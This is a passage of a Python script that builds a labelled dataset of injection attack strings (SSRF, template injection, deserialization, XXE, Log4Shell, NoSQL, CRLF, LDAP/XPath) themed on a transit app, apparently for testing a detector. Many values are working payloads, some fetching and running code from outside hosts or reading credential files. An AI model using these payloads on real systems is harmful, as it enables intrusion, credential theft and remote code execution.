    ("plain-dotdot_hosts", "../../../etc/hosts"),
    ("plain-dotdot_shadow_deep", "../../../../../../../../etc/shadow"),
]

TR_PREFIX = [("feed_path", "gtfs/"), ("timetable_pdf", "timetables/"), ("map_tile", "tiles/15/"), ("stop_photo", "photos/stops/"), ("lang_param", "lang/")]
TR_TARGETS = ["etc/passwd", "opt/transit/.env", "proc/self/environ", "root/.bash_history", "var/lib/transit/db.sqlite3", "home/transit/.pgpass"]


def tpl_traversal(rng):
    ctx, pre = rng.choice(TR_PREFIX)
    depth = rng.randrange(4, 10)
    target = rng.choice(TR_TARGETS)
    if rng.random() < 0.5:
        return "%s-dotdot" % ctx, pre + "../" * depth + target
    return "%s-dotdot+urlenc" % ctx, pre + "..%2f" * depth + target.replace("/", "%2f")


# --------------------------------------------------------------------------
# ssrf
# --------------------------------------------------------------------------
SSRF = [
    ("feed_url-aws_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("feed_url-aws_metadata_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("gtfs_rt_url-gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook_url-azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("feed_url-metadata+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("feed_url-metadata+hex_ip", "http://0xa9fea9fe/latest/user-data"),
    ("feed_url-metadata+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook_url-loopback+short_ip", "http://127.1:8080/admin/flush-cache"),
    ("feed_url-zero_ip_redis", "http://0.0.0.0:6379/"),
    ("gtfs_rt_url-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("feed_url-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("feed_url-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("feed_url-file_scheme", "file:///etc/passwd"),
    ("agency_url-file_environ", "file:///proc/self/environ"),
    ("feed_url-userinfo_confusion", "http://data.transit.example@127.0.0.1:8500/v1/agent/self"),
    ("feed_url-fragment_confusion", "http://127.0.0.1:8080#@data.transit.example/gtfs.zip"),
    ("feed_url-allowlist_suffix", "http://data.transit.example.attacker.example/gtfs.zip"),
    ("feed_url-dns_rebinding", "http://127-0-0-1.rebind.attacker.example:8080/admin/"),
    ("webhook_url-ipv6_loopback", "http://[::1]:8080/actuator/env"),
    ("feed_url-ipv4_mapped_docker", "http://[::ffff:127.0.0.1]:2375/containers/json"),
    ("feed_url-metadata+ipv4_mapped_hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("feed_url-open_redirect_chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("feed_url-internal_tomcat", "http://10.0.0.12:8080/manager/html"),
    ("webhook_url-router_admin", "http://192.168.1.1/cgi-bin/luci"),
    ("feed_url-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("gtfs_rt_url-kubelet", "http://127.0.0.1:10255/pods"),
    ("feed_url-etcd", "http://localhost:2379/v2/keys/?recursive=true"),
    ("webhook_url-rabbitmq", "http://127.0.0.1:15672/api/users"),
    ("feed_url-jar_scheme", "jar:http://203.0.113.16/feed.zip!/stops.txt"),
    ("feed_url-netdoc_scheme", "netdoc:///etc/passwd"),
    ("feed_url-ldap_scheme", "ldap://127.0.0.1:389/dc=transit,dc=example?userPassword?sub"),
    ("feed_url-loopback+urlenc_host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("feed_url-loopback+unicode_enclosed", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("feed_url-loopback+hex_dotted", "http://0x7f.0x0.0x0.0x1:6379/"),
    ("feed_url-loopback+octal_ip", "http://017700000001/server-status"),
    ("gtfs_rt_url-loopback+decimal_ip", "http://2130706433:8000/internal/drivers"),
    ("webhook_url-internal_task", "http://127.0.0.1:9000/api/v1/tasks/purge"),
    ("pdf_render-iframe_file", "<iframe src=\"file:///etc/passwd\" width=\"800\" height=\"600\"></iframe>"),
    ("pdf_render-iframe_metadata", "Timetable note<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"></iframe>"),
    ("map_upload-svg_image_href", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/\" width=\"400\" height=\"400\"/></svg>"),
    ("gtfs_row-agency_url_metadata", "MTA,Metro Transit,http://169.254.169.254/latest/meta-data/iam/security-credentials/,Europe/Berlin"),
    ("gtfs_row-feed_info_internal", "\"Metro Transit\",http://10.0.0.5:5984/_all_dbs,en,2024.04.15"),
    ("feed_url-ipv6_expanded_mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("feed_url-backslash_parser_diff", "http://127.0.0.1:8080\\@data.transit.example/gtfs.zip"),
    ("gtfs_rt_url-gcp_short_metadata", "http://metadata/computeMetadata/v1/?recursive=true&alt=text"),
    ("feed_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/"),
    ("feed_url-ecs_credentials", "http://169.254.170.2/v2/credentials/"),
    ("lost_photo_url-internal_admin", "http://localhost:8000/admin/export?table=lost_items"),
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback_ssh_port", "http://127.0.0.1:22/"),
    ("plain-file_hosts", "file:///etc/hosts"),
    ("plain-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0A"),
]

SS_HOSTS = [
    ("loopback", "127.0.0.1"), ("loopback", "localhost"), ("internal", "10.0.3.7"),
    ("internal", "172.16.0.20"), ("internal", "192.168.10.5"), ("metadata", "169.254.169.254"),
]
SS_PORTS_PATHS = [
    (":8080", "/admin/"), (":9200", "/_search?q=*"), (":5000", "/v2/_catalog"),
    (":8500", "/v1/kv/?recurse"), ("", "/latest/meta-data/hostname"), (":3000", "/api/admin/users"),
]


def tpl_ssrf(rng):
    kind, host = rng.choice(SS_HOSTS)
    port, path = rng.choice(SS_PORTS_PATHS)
    if kind == "metadata":
        port = ""
    ctx = rng.choice(["feed_url", "gtfs_rt_url", "webhook_url", "agency_url"])
    return "%s-%s" % (ctx, kind), "http://%s%s%s" % (host, port, path)


# --------------------------------------------------------------------------
# code: SSTI, expression languages, deserialization, XXE, Log4Shell-style
# lookups, prototype pollution, CSV formula
# --------------------------------------------------------------------------
CODE = [
    ("notify_template-jinja2_cycler", "Detour via {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("notify_template-jinja2_self_context", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /opt/transit/.env').read() }}"),
    ("alert_template-jinja2_request_globals", "{{ request.application.__globals__.__builtins__.__import__('os').popen('uname -a').read() }}"),
    ("alert_template-jinja2_subclasses_loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("notify_template-jinja2_config_leak", "Stop {{ stop_name }} – {{ config.items() }}"),
    ("notify_template-jinja2_lipsum", "{{ lipsum.__globals__['os'].popen('curl -s 203.0.113.18/j|sh').read() }}"),
    ("notify_template-jinja2_attr+hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("notify_template-jinja2_getitem+unicode_escape", "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os'].popen('id').read() }}"),
    ("alert_template-twig_filter_system", "{{ ['id']|filter('system') }}"),
    ("alert_template-twig_undefined_callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("pdf_template-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("pdf_template-velocity_runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("mail_template-erb_backtick", "Dear rider, <%= `id` %>"),
    ("mail_template-erb_file_read", "<%= File.read('/etc/passwd') %>"),
    ("mail_template-erb_system", "<%= system('curl -s 203.0.113.19/e|sh') %>"),
    ("lang_param-thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("route_filter-spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("route_filter-spel_env_leak", "${T(java.lang.System).getenv()}"),
    ("api_param-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("api_param-java_el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("alert_template-pug_interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("alert_template-ejs_exec", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("pdf_template-mako_import", "${__import__('os').popen('id').read()}"),
    ("pdf_template-mako_block", "<% import os; x=os.popen('whoami').read() %>${x}"),
    ("alert_template-smarty_function", "{system('id')}"),
    ("alert_template-smarty_php_tag", "{php}echo `id`;{/php}"),
    ("alert_template-tornado_import", "{% import os %}{{ os.popen('id').read() }}"),
    ("alert_template-django_settings_leak", "{{ settings.SECRET_KEY }}"),
    ("alert_template-django_debug_leak", "Lift out of order {% debug %}"),
    ("fare_formula-python_eval", "2.90 * (1 if __import__('os').system('id') else 1)"),
    ("fare_formula-python_subprocess", "__import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("fare_formula-node_eval", "require('child_process').execSync('id').toString()"),
    ("fare_formula-node_constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("session_cookie-pickle_protocol0", "cos\nsystem\n(S'curl -s 203.0.113.20/p|sh'\ntR."),
    ("session_cookie-pickle+base64", "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"),
    ("gtfs_config_yaml-pyyaml_apply", "!!python/object/apply:os.system ['id']"),
    ("gtfs_config_yaml-pyyaml_subprocess", "feed: !!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("session_cookie-php_unserialize", "O:21:\"TimetableCacheCleaner\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("stop_photo-phar_wrapper", "phar:///var/www/uploads/lost/photo_118.jpg/x"),
    ("api_json-node_serialize_iife", "{\"rider\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("api_json-jsonnet_typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c curl http://203.0.113.21/n\"]}}"),
    ("api_json-jackson_jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.21:1389/Exp\",\"autoCommit\":true}]"),
    ("api_json-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.21:1099/x\",\"autoCommit\":true}"),
    ("netex_upload-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE PublicationDelivery [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<PublicationDelivery version=\"1.1\"><dataObjects><StopPlace id=\"NX:StopPlace:1\"><Name>&x;</Name></StopPlace></dataObjects></PublicationDelivery>"),
    ("siri_feed-xxe_oob_parameter", "<?xml version=\"1.0\"?><!DOCTYPE Siri [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><Siri version=\"2.0\"><ServiceDelivery/></Siri>"),
    ("netex_upload-xinclude", "<StopPlace xmlns:xi=\"http://www.w3.org/2001/XInclude\" id=\"NX:1\"><Name><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></Name></StopPlace>"),
    ("netex_upload-entity_expansion", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>\n<StopPlace><Name>&f;</Name></StopPlace>"),
    ("map_upload-svg_xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///opt/transit/.env\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"40\"><text x=\"0\" y=\"20\">&k;</text></svg>"),
    ("shape_upload-kml_xxe", "<?xml version=\"1.0\"?><!DOCTYPE kml [<!ENTITY s SYSTEM \"file:///root/.ssh/id_rsa\">]><kml xmlns=\"http://www.opengis.net/kml/2.2\"><Placemark><name>&s;</name></Placemark></kml>"),
    ("siri_feed-xxe_php_filter", "<?xml version=\"1.0\"?><!DOCTYPE Siri [<!ENTITY c SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><Siri><ServiceDelivery><ProducerRef>&c;</ProducerRef></ServiceDelivery></Siri>"),
    ("user_agent-log4shell", "TransitApp/5.2.1 ${jndi:ldap://203.0.113.22:1389/a}"),
    ("defect_report-log4shell_nested_env", "Bus 4417 brakes ${jndi:ldap://${env:HOSTNAME}.oob.attacker.example/x}"),
    ("stop_search-log4shell+lookup_obfuscation", "${${lower:j}ndi:${lower:l}dap://attacker.example/z}"),
    ("trip_query-log4shell+default_value_obf", "Hbf ${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.40/o}"),
    ("feedback-log4shell_dns_sys", "${jndi:dns://${sys:java.version}.oob.attacker.example}"),
    ("api_header-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.22%2Fb%7D"),
    ("dispatch_msg-log4shell_env_default", "${j${env:NOPE:-n}di:ldaps://attacker.example/c}"),
    ("api_json-proto_isadmin", "{\"stop_id\":\"S1042\",\"__proto__\":{\"isAdmin\":true}}"),
    ("api_json-constructor_prototype", "{\"constructor\":{\"prototype\":{\"role\":\"dispatcher\"}}}"),
    ("api_query-proto_ejs_gadget", "route=42&__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("api_json-proto_spawn_env", "{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":{\"A\":\"console.log(require('child_process').execSync('id').toString())//\"}}}"),
    ("feedback_export-csv_hyperlink", "=HYPERLINK(\"https://attacker.example/r?d=\"&A2&B2,\"Refund status\")"),
    ("feedback_export-csv_dde_cmd", "=cmd|' /C powershell -nop -c iwr 203.0.113.23/x.ps1|iex'!A0"),
    ("lost_found_export-csv_plus_dde", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("lost_found_export-csv_at_dde", "@SUM(1+9)*cmd|' /C notepad'!A1"),
    ("feedback_export-csv_importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",CONCATENATE(A2:E2)),\"//a\")"),
    ("fare_dispute_export-csv_webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&A1&B1)"),
    ("alert_text-ssi_exec", "<!--#exec cmd=\"id\" -->"),
    ("alert_text-esi_include", "Service update <esi:include src=\"http://attacker.example/esi\"/>"),
    ("api_form-spring_classloader", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i"),
    ("plain-jinja2_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("plain-log4shell", "${jndi:ldap://203.0.113.22/x}"),
    ("plain-erb_system", "<%= system('id') %>"),
    ("plain-xxe_file", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-csv_dde", "=1+1+cmd|' /C calc'!A0"),
    ("plain-spel_runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
]

CO_CMDS = ["id", "uname -a", "cat /opt/transit/.env", "curl -s 203.0.113.26/t|sh", "ls /var/lib/transit"]
CO_PREFIX = ["Route 42 detour: ", "Stop {{ stop_name }} closed – ", "Dear rider, ", ""]


def tpl_code(rng):
    cmd = rng.choice(CO_CMDS)
    form = rng.randrange(3)
    if form == 0:
        return "notify_template-jinja2_cycler", "%s{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % (rng.choice(CO_PREFIX), cmd)
    if form == 1:
        return "mail_template-erb_system", "%s<%%= `%s` %%>" % (rng.choice(CO_PREFIX[2:]), cmd)
    return "api_param-spel_runtime", "${T(java.lang.Runtime).getRuntime().exec('%s')}" % cmd


# --------------------------------------------------------------------------
# nosqli
# --------------------------------------------------------------------------
NOSQLI = [
    ("driver_login-ne_operator", "{\"badge\":\"D5521\",\"pin\":{\"$ne\":null}}"),
    ("driver_login-ne_querystring", "badge=D5521&pin[$ne]=x"),
    ("driver_login-regex_gt", "{\"badge\":{\"$regex\":\"^D55\"},\"pin\":{\"$gt\":\"\"}}"),
    ("vehicle_query-where_sleep", "{\"route_id\":\"42\",\"$where\":\"sleep(5000) || true\"}"),
    ("vehicle_query-where_js_breakout", "42'; return true; var x='"),
    ("vehicle_query-where_dos", "42'; while(true){}; var y='"),
    ("stop_search-regex_querystring", "stop_name[$regex]=.*&stop_name[$options]=si"),
    ("lost_found-regex_exists_dump", "{\"item\":{\"$regex\":\".*\"},\"owner_email\":{\"$exists\":true}}"),
    ("driver_login-in_guess", "{\"badge\":\"dispatch\",\"pin\":{\"$in\":[\"0000\",\"1234\",\"1111\",\"4417\"]}}"),
    ("staff_query-or_role", "{\"$or\":[{\"role\":\"admin\"},{\"role\":{\"$exists\":false}}]}"),
    ("vehicle_query-aggregate_lookup", "[{\"$lookup\":{\"from\":\"staff\",\"localField\":\"driver\",\"foreignField\":\"badge\",\"as\":\"s\"}}]"),
    ("fare_card-gt_lt", "{\"card_id\":{\"$gt\":\"\"},\"balance\":{\"$lt\":0}}"),
    ("driver_login-regex_blind", "badge=D5521&pin[$regex]=^7"),
    ("stop_search-nin_empty", "{\"stop_id\":{\"$nin\":[]}}"),
    ("vehicle_query-expr_function", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("lost_found-couchdb_mango", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"_id\",\"owner_phone\",\"owner_email\"],\"limit\":500}"),
    ("driver_login-type_operator", "{\"badge\":\"D5521\",\"pin\":{\"$type\":\"string\"}}"),
    ("driver_login-gt_querystring", "badge[$gt]=&pin[$gt]="),
    ("vehicle_query-where_busy_loop", "{\"$where\":\"function(){var d=new Date();while(new Date()-d<4000){};return true}\"}"),
    ("route_query-exists_querystring", "route_id[$exists]=true&archived[$ne]=false"),
    ("driver_login-ne+urlenc", "badge=D5521&pin%5B%24ne%5D=1"),
    ("driver_login-ne+unicode_escape", "{\"badge\":\"D5521\",\"pin\":{\"\\u0024ne\":\"\"}}"),
    ("plain-ne_password", "{\"username\":\"admin\",\"password\":{\"$ne\":\"\"}}"),
    ("plain-ne_querystring", "username[$ne]=x&password[$ne]=x"),
    ("plain-where_true", "{\"$where\":\"1==1\"}"),
]

NO_BADGES = ["D5521", "D4082", "D1190", "ops1", "dispatch", "supervisor"]
NO_OPS = [("$ne", "\"\""), ("$gt", "\"\""), ("$regex", "\"^.\""), ("$exists", "true")]


def tpl_nosqli(rng):
    badge = rng.choice(NO_BADGES)
    op, val = rng.choice(NO_OPS)
    return "driver_login-%s_operator" % op[1:], "{\"badge\":\"%s\",\"pin\":{\"%s\":%s}}" % (badge, op, val)


# --------------------------------------------------------------------------
# crlf: log, header and mail injection
# --------------------------------------------------------------------------
CRLF = [
    ("log_line-forged_entry", "Central\r\n2024-04-15T07:45:00Z INFO dispatcher=admin action=refund_approved card=4417 amount=290"),
    ("log_line-forged_audit+urlenc", "S1042%0d%0a[2024-04-15 08:00:01] AUDIT user=ops1 role=admin granted"),
    ("http_header-set_cookie", "de\r\nSet-Cookie: session=attacker-fixed-value; Path=/; HttpOnly"),
    ("http_header-location+urlenc", "de%0d%0aLocation:%20https://attacker.example/fare-refund"),
    ("http_header-response_splitting", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("mail_header-bcc", "rider@mail.example\r\nBcc: all-riders@transit.example"),
    ("mail_header-subject_cc", "Lost wallet\r\nCc: list@transit.example\r\nX-Priority: 1"),
    ("mail_header-body_html_phish", "Lost scarf\nContent-Type: text/html\n\n<a href=https://attacker.example/claim>Claim your item</a>"),
    ("smtp-command_injection", "rider@mail.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA\r\nSubject: Refund\r\n\r\nPay the admin fee at https://attacker.example/pay\r\n.\r\nQUIT"),
    ("log_line-forged+unicode_linesep", "S1042\u2028INFO 2024-04-15 08:00 admin login ok from 10.0.0.5"),
    ("log_line-forged+unicode_nel", "Hbf\u0085WARN refund queue cleared by supervisor"),
    ("http_header-set_cookie+double_urlenc", "de%250d%250aSet-Cookie:%2520sid=fixed"),
    ("http_header-set_cookie+unicode_truncation", "de%E5%98%8A%E5%98%8DSet-Cookie:%20sid=fixed"),
    ("log_line-ansi_escape", "bus 4417 \u001b[2J\u001b[1;1Hall vehicles OK, no defects"),
    ("log_line-forged_syslog", "D5521\n<13>Apr 15 07:45:00 dispatch-01 sudo: ops1 : TTY=pts/0 ; PWD=/home/ops1 ; USER=root ; COMMAND=/bin/bash"),
    ("log_line-json_field_injection", "Hbf\",\"level\":\"INFO\",\"user\":\"admin\",\"msg\":\"password reset ok"),
    ("http_header-host_xff", "api.transit.example\r\nX-Forwarded-For: 127.0.0.1"),
    ("redirect_param-refresh_header", "/departures\r\nRefresh: 0; url=https://attacker.example/"),
    ("http_header-csp_override+urlenc", "fr%0d%0aContent-Security-Policy:%20script-src%20*%20'unsafe-inline'"),
    ("mail_header-reply_to", "Anna Kowalska\nReply-To: refunds@attacker.example"),
    ("log_line-bare_cr", "S1042\r2024-04-15 08:00 INFO refund approved card=4417"),
    ("http_header-x_accel_redirect", "fr\nX-Accel-Redirect: /internal/drivers.csv"),
    ("http_header-cache_poison_content_type", "en\r\nContent-Type: text/html\r\nCache-Control: public, max-age=31536000"),
    ("mail_header-bcc+urlenc", "lostfound@transit.example%0aBcc:%20all-staff@transit.example"),
    ("dispatch_msg-line_spoof", "Bus 4417 running late\n\n[OPS DIRECTOR] All drivers: send your depot PIN to ops-verify@attacker.example by 17:00"),
    ("log_line-csv_log_row", "Central\n2024-04-15,08:00:00,admin,REFUND,4417,290.00"),
    ("plain-crlf_set_cookie", "%0d%0aSet-Cookie: crlf=injected"),
    ("plain-crlf_header", "\r\nX-Injected: 1"),
    ("plain-lf_log", "x\nINFO login success user=admin"),
]

CR_LEADS = ["S1042", "Hbf", "R42", "D5521", "de", "fr", "lost umbrella"]
CR_LINES = [
    ("log_line-forged_entry", "2024-04-%02d 0%d:00:00 INFO user=admin action=refund_approved card=%04d"),
    ("http_header-set_cookie", "Set-Cookie: sid=%04d%02d%d; Path=/"),
    ("mail_header-bcc", "Bcc: ops%d-%02d-%04d@attacker.example"),
]


def tpl_crlf(rng):
    cls, line = rng.choice(CR_LINES)
    line = line % (rng.randrange(1, 29), rng.randrange(0, 9), rng.randrange(0, 10000))
    sep = rng.choice(["\r\n", "\n", "%0d%0a"])
    if sep == "%0d%0a":
        cls += "+urlenc"
        line = line.replace(" ", "%20")
    return cls, rng.choice(CR_LEADS) + sep + line


# --------------------------------------------------------------------------
# ldap-xpath
# --------------------------------------------------------------------------
LDAP_XPATH = [
    ("staff_dir-ldap_filter_breakout", "*)(objectClass=*))(&(objectClass=void"),
    ("staff_dir-ldap_blind_attr", "North)(userPassword=a*"),
    ("staff_dir-ldap_group_enum", "*)(|(memberOf=cn=dispatch-admins,ou=groups,dc=transit,dc=example)"),
    ("driver_login-ldap_or_password", "D5521)(|(userPassword=*"),
    ("staff_dir-ldap_breakout+urlenc", "%2a%29%28objectClass%3d%2a"),
    ("driver_login-ldap_null_byte", "ops1)%00"),
    ("staff_dir-ldap_mail_harvest", "*)(mail=*"),
    ("netex_xpath-tautology", "Harbour' or '1'='1"),
    ("netex_xpath-node_union", "x'] | //Operator/ContactDetails/Email | //x['"),
    ("driver_xml-xpath_blind_substring", "' or substring(//driver[1]/pin,1,1)='7' or '"),
    ("driver_xml-xpath_count", "' or count(//driver)>10 or '"),
    ("netex_xpath-root_name", "x' or name(/*)='PublicationDelivery' or 'a'='b"),
    ("netex_xpath-password_nodes", "'] | //*[contains(local-name(),'assword')] | a['"),
    ("netex_xpath-doc_oob", "' or doc('http://attacker.example/x.xml') or '"),
    ("netex_xpath-numeric_tautology", "1 or 1=1"),
    ("netex_xpath-dquote_tautology", "Central\" or \"1\"=\"1"),
    ("driver_xml-xpath_string_length", "' or string-length(//driver[badge='D5521']/pin)=4 or '"),
    ("plain-ldap_classic", "*)(uid=*))(|(uid=*"),
    ("plain-xpath_or", "' or ''='"),
]

LX_DEPOTS = ["North", "West", "Harbour", "Central", "Tram Depot 2"]
LX_ATTRS = ["userPassword", "pager", "employeeNumber", "description", "badgePin"]


def tpl_ldap_xpath(rng):
    if rng.random() < 0.5:
        return "staff_dir-ldap_blind_attr", "%s)(%s=%s*" % (
            rng.choice(LX_DEPOTS), rng.choice(LX_ATTRS), rng.choice("abcdefghkmnpqrstuvwxyz0123456789"))
    return "driver_xml-xpath_blind_substring", "' or substring(//driver[badge='%s']/pin,%d,1)='%d' or '" % (
        rng.choice(NO_BADGES[:3]), rng.randrange(1, 5), rng.randrange(10))


# category -> (literals, template, number of templated values)
CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 4),
    ("xss", XSS, tpl_xss, 4),
    ("cmdi", CMDI, tpl_cmdi, 6),
    ("traversal", TRAVERSAL, tpl_traversal, 4),
    ("ssrf", SSRF, tpl_ssrf, 2),
    ("code", CODE, tpl_code, 1),
    ("nosqli", NOSQLI, tpl_nosqli, 3),
    ("crlf", CRLF, tpl_crlf, 4),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath, 4),
]


def build(rng):
    rows = []
    seen = set()
    stats = []
    for cat, literals, tpl, n_tpl in CATEGORIES:
        count = 0
        for cls, value in literals:
            if value in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, value))
            seen.add(value)
            rows.append((cat, cls, value))
            count += 1
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit("%s: template pool exhausted" % cat)
            cls, value = tpl(rng)
            if value in seen:
                continue
            seen.add(value)
            rows.append((cat, cls, value))
            made += 1
        stats.append((cat, count + made, count))
    return rows, stats


def main():
    rng = random.Random(SEED)
    rows, stats = build(rng)
    out = []
    for i, (cat, cls, value) in enumerate(rows, 1):
        if not isinstance(value, str) or not value or len(value) > 1800:
            raise SystemExit("bad value in %s: %r" % (cat, value))
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls, "label": "attack", "value": value})
    vals = [o["value"] for o in out]
    assert len(set(vals)) == len(vals), "duplicate values"
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [v for v in vals if v in benign]
        assert not clash, "values also in benign.jsonl: %r" % clash[:3]
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print("%-12s %4d  (literals %d)" % (cat, n, n_lit))
    print("%-12s %4d  (literals %d, %.0f%%)" % ("TOTAL", len(out), total_lit, 100.0 * total_lit / len(out)))
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print("plain- classes: %d, with +encoding: %d" % (n_plain, n_enc))
    print("wrote %s" % path)


if __name__ == "__main__":
    main()
